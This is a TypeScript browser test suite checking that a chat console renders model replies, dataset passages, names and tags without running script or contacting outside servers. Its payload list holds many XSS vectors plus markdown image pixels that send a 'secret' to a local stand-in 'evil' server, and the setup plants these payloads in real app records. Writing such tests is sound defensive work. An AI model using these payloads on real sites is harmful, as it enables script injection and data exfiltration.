import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { delta, openStream, startUpstream, type Upstream } from '@lectern/server/models/testing/upstream.ts';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { browserMissing } from '../lib/browser.ts';
import { type ConsoleWorld, openConsole, type Visitor } from '../lib/console.ts';

/*
 * Whatever a model, a document or a person writes: reading it asks no other server, runs nothing and opens no dialog.
 * The servers "elsewhere" are real and trusted by this one, so that nothing but the console keeps them from being asked.
 */

const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

interface Elsewhere {
  origin: string;
  host: string;
  asked: string[];
  close(): Promise<void>;
}

async function startElsewhere(): Promise<Elsewhere> {
  const asked: string[] = [];
  const server: Server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' }).end(gif);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    ...{ asked, host: `127.0.0.1:${port}`, origin: `http://127.0.0.1:${port}` },
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** The ways in which texts have made browsers ask other servers or run something. */
const payloads = (evil: string): string[] => [
  `![pixel](${evil}/image?q=secret)`,
  `![pixel][ref]\n\n[ref]: ${evil}/reference?q=secret`,
  `[![pixel](${evil}/linked)](${evil}/link)`,
  `<img src="${evil}/img" onerror="alert(1)">`,
  `<img src=x onerror=alert(2)>`,
  `<script>alert(3)</script><script src="${evil}/script"></script>`,
  `<svg onload=alert(4)><image href="${evil}/svg"/></svg>`,
  `<iframe src="${evil}/frame" srcdoc="<script>alert(5)</script>"></iframe>`,
  `<link rel="stylesheet" href="${evil}/css"><style>@import "${evil}/import"; * { background: url(${evil}/background) }</style>`,
  `<div style="background: url(${evil}/style)">styled</div>`,
  `<object data="${evil}/object"></object><embed src="${evil}/embed"><video poster="${evil}/poster" src="${evil}/video"></video>`,
  `<a href="javascript:alert(6)">click</a> <details open ontoggle=alert(7)>x</details>`,
  `[click](javascript:alert(8)) [click](JaVaScRiPt:alert(9)) [click](data:text/html,<script>alert(10)</script>)`,
  `![x](data:image/svg+xml,%3Csvg%20onload=alert(11)%3E) ![x](javascript:alert(12))`,
  `${evil}/autolink <${evil}/brackets> www.evil.example`,
  `![x](//${new URL(evil).host}/schemeless) ![x](\\\\${new URL(evil).host}\\backslashes)`,
  '![call](/api/support/user/account/loginout) [call](/api/support/user/account/loginout)',
  '[call](/%61pi/support/user/account/loginout) [call](/%2561pi/support/user/account/loginout) [call](/chat/..%2fapi/support/user/account/loginout) [call](//api/support/user/account/loginout)',
  `$$\\includegraphics{${evil}/formula}$$ $$\\href{javascript:alert(13)}{x}$$ $$\\url{${evil}/url}$$ $$\\htmlStyle{background: url(${evil}/katex)}{x}$$`,
  `\`\`\`mermaid\ngraph TD\n  A@{ img: "${evil}/mermaid", label: "x" }\n\`\`\``,
  `\`\`\`mermaid\ngraph TD\n  A["<img src='${evil}/label' onerror=alert(14)>"]\n  click A "javascript:alert(15)"\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"themeCSS": "* { background: url(${evil}/theme) }"}}%%\ngraph TD\n  A\n\`\`\``,
  `\`\`\`html\n<img src="${evil}/code" onerror="alert(16)">\n\`\`\``,
  `\`\`\`"><img src=x onerror=alert(17)>\ncode\n\`\`\``,
  `| a |\n| --- |\n| ![x](${evil}/table) |`,
  `[^1]\n\n[^1]: ![x](${evil}/footnote)`,
  `&lt;img src=x onerror=alert(18)&gt; &#60;script&#62;alert(19)&#60;/script&#62;`,
  `<!--><img src=x onerror=alert(20)>-->`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(21)></style></mglyph></table></mtext></math>`,
];
const end = 'That is all.';
/** For names, which are short. */
const namePayload = (evil: string) => `<img src=${evil}/name onerror=alert(30)>![x](${evil}/name)`;

describe.skipIf(browserMissing)('what models, documents and people write', () => {
  let world: ConsoleWorld;
  let upstream: Upstream;
  let evil: Elsewhere;
  let allowed: Elsewhere;
  let visitor: Visitor;
  let page: Page;
  let datasetId: string;
  let collectionId: string;
  let appId: string;
  let tag: string;
  let reply: string[];
  let failure = '';

  // biome-ignore lint/suspicious/noExplicitAny: answers are looked at as a client without types does
  const call = async (method: string, path: string, body?: unknown): Promise<any> => {
    const answer = await page.evaluate(
      async ([m, p, b]) => {
        const init =
          b === undefined ? {} : { headers: { 'content-type': 'application/json' }, body: JSON.stringify(b) };
        const response = await fetch(p as string, { method: m as string, ...init });
        return { status: response.status, text: await response.text() };
      },
      [method, path, body] as const,
    );
    if (answer.status !== 200) throw new Error(`${method} ${path}: ${answer.text}`);
    return JSON.parse(answer.text).data;
  };
  const upload = (name: string, text: string) =>
    page.evaluate(
      async ([id, n, t]) => {
        const form = new FormData();
        form.append('file', new Blob([t as string]), n as string);
        form.append('data', JSON.stringify({ datasetId: id }));
        const response = await fetch('/api/core/dataset/collection/create/localFile', {
          method: 'POST',
          body: form,
        });
        return ((await response.json()) as { data: { collectionId: string } }).data.collectionId;
      },
      [datasetId, name, text] as const,
    );
  const ask = async (question: string) => {
    await page.getByRole('textbox', { name: 'Your question' }).fill(question);
    await page.keyboard.press('Enter');
  };
  const answered = () =>
    page.getByRole('button', { name: 'Answer again' }).last().waitFor({ timeout: 60_000 });
  const expectQuiet = async () => {
    // What a page loads late, it loads within moments of being drawn.
    await page.waitForTimeout(500);
    const { outside, dialogs, complaints } = visitor;
    expect({ outside, dialogs, complaints, asked: evil.asked }).toEqual({
      ...{ outside: [], dialogs: [], complaints: [], asked: [] },
    });
  };

  beforeAll(async () => {
    [evil, allowed] = await Promise.all([startElsewhere(), startElsewhere()]);
    upstream = await startUpstream(async ({ response }) => {
      if (failure) {
        response.writeHead(400, { 'content-type': 'application/json' });
        response.end(
          JSON.stringify({ error: { message: failure, type: 'invalid_request_error', code: null } }),
        );
        return;
      }
      openStream(response);
      for (const piece of reply) {
        response.write(delta({ content: piece }));
        await new Promise((resolve) => setImmediate(resolve));
      }
      response.end(`${delta({}, 'stop')}data: [DONE]\n\n`);
    });
    world = await openConsole(['--no-demo'], {
      env: { OPENAI_BASE_URL: upstream.url, OPENAI_API_KEY: 'sk-test', CHAT_MODEL: 'up-1' },
    });
    visitor = await world.visit({ path: '/jobs' });
    page = visitor.page;
    for (const { origin } of [evil, allowed])
      await call('POST', '/api/core/ai/trustedOrigin', { origin, reach: 'all' });
    datasetId = await call('POST', '/api/core/dataset/create', { name: namePayload(evil.origin) });
    collectionId = await upload(`${namePayload('x:').replaceAll('/', '_')}.md`, 'The heron is blue.');
    const item = (q: string) => ({ q, a: '' });
    const pushed = {
      collectionId,
      data: payloads(evil.origin).map((text) => item(`The heron says: ${text}`)),
    };
    await call('POST', '/api/core/dataset/data/pushData', pushed);
    tag = `<img src=${evil.origin}/tag onerror=alert(31)>`;
    const tagId = await call('POST', '/api/core/dataset/tag/create', { datasetId, tag });
    await call('POST', '/api/core/dataset/tag/addToCollections', {
      ...{ datasetId, originCollectionIds: [], collectionIds: [collectionId], tag: tagId },
    });
    appId = await call('POST', '/api/core/app/create', {
      name: namePayload(evil.origin),
      type: 'simple',
      intro: payloads(evil.origin).join('\n\n').slice(0, 5000),
      simple: {
        prompt: 'Answer.',
        datasets: [{ datasetId }],
        welcomeText: `${payloads(evil.origin).join('\n\n')}\n[<img src=${evil.origin}/suggestion onerror=alert(32)>]`,
      },
      chatConfig: { allowedHosts: [allowed.host] },
    });
    await call('PUT', '/api/support/user/team/member/updateName', {
      name: namePayload(evil.origin).slice(0, 50),
    });
  }, 120_000);
  afterAll(async () => {
    await world?.close();
    await Promise.all([upstream, evil, allowed].map((server) => server?.close()));
  });

  test('in the welcome of an app', async () => {
    await page.goto(`/chat/${appId}`);
    await page.getByText('styled').first().waitFor();
    await expectQuiet();
  });

  test('in a reply, letter by letter', async () => {
    reply = [...payloads(evil.origin).join('\n\n'), `\n\n${end}`];
    await ask('What does the heron say?');
    await answered();
    await page.getByText(end).first().waitFor();
    // It is there as text, and as a box with the host.
    await page.getByText('<script>alert(3)</script>').first().waitFor();
    await page
      .getByRole('button', { name: `Picture from ${evil.host}` })
      .first()
      .waitFor();
    expect(await page.locator('[role=log] img').count()).toBe(0);
    expect(
      await page.locator('[role=log] :is(iframe, script, style, object, embed, video, form)').count(),
    ).toBe(0);
    const links = page.locator('[role=log] article a');
    for (const href of await links.evaluateAll((all) => all.map((a) => a.getAttribute('href'))))
      expect(href).toMatch(/^#/);
    await expectQuiet();
  });

  test('in a reply that comes in large pieces, and read again after a reload', async () => {
    reply = [payloads(evil.origin).join('\n\n'), `\n\n${end}`];
    await ask('And again?');
    await answered();
    await page.reload();
    await page.getByText(end).last().waitFor();
    await expectQuiet();
  });

  test('a link asks before it opens, and shows where it leads', async () => {
    await page
      .getByRole('button', { name: /^pixel Picture from/ })
      .first()
      .click();
    const dialog = page.getByRole('dialog');
    await dialog.getByText(`${evil.origin}/image?q=secret`).waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'hidden' });
    await expectQuiet();
  });

  test('in a cited passage, and in what stands around it', async () => {
    const { list } = await call('POST', '/api/core/dataset/data/v2/list', { collectionId, pageSize: 30 });
    reply = (list as { _id: string }[]).map(({ _id }) => `[${_id}](CITE) `);
    await ask('What does the heron say of itself?');
    await answered();
    const marks = page
      .locator('article')
      .last()
      .getByRole('button', { name: /^Source \d+:/ });
    expect(await marks.count()).toBeGreaterThan(3);
    for (let at = 0; at < (await marks.count()); at += 1) {
      await marks.nth(at).click();
      await page.locator('mark').getByText('The heron').first().waitFor();
    }
    await expectQuiet();
    await page.getByRole('button', { name: 'Close the source' }).click();
  });

  test('in the words of a model that fails', async () => {
    failure = payloads(evil.origin).join(' ').slice(0, 4000);
    await ask('Will you fail?');
    await page.getByText('The answer failed').last().waitFor();
    failure = '';
    await expectQuiet();
  });

  test('on every other screen that shows names, passages and people', async () => {
    for (const path of [
      '/apps',
      `/apps/${appId}`,
      `/apps/${appId}/api`,
      '/datasets',
      `/datasets/${datasetId}`,
      `/datasets/${datasetId}/collections/${collectionId}`,
      `/datasets/${datasetId}/search`,
      `/datasets/${datasetId}/quality`,
      `/datasets/${datasetId}/settings`,
      '/jobs',
      '/api-keys',
      '/settings/models',
      '/settings/members',
      '/settings/audit',
      '/account',
    ]) {
      await page.goto(path);
      await page.getByRole('heading', { level: 1 }).first().waitFor();
      if (path === `/datasets/${datasetId}`) await page.getByTitle(tag).first().waitFor();
      await expectQuiet();
    }
  });

  test('a picture of a host that the app allows is shown, fetched by the server, and its link opens at once', async () => {
    reply = [
      `![bird](${allowed.origin}/bird.gif) [the bird](${allowed.origin}/page) ![pixel](${evil.origin}/again)`,
    ];
    await page.goto(`/chat/${appId}`);
    await ask('Show the bird.');
    await answered();
    const picture = page.getByRole('img', { name: 'bird', exact: true });
    await picture.waitFor();
    await expect
      .poll(() => picture.evaluate((img) => (img as unknown as { naturalWidth: number }).naturalWidth))
      .toBe(1);
    expect(allowed.asked).toEqual(['/bird.gif']);
    const link = page.getByRole('link', { name: 'the bird', exact: true });
    expect(await link.getAttribute('href')).toBe(`${allowed.origin}/page`);
    expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    await expectQuiet();
  });
});
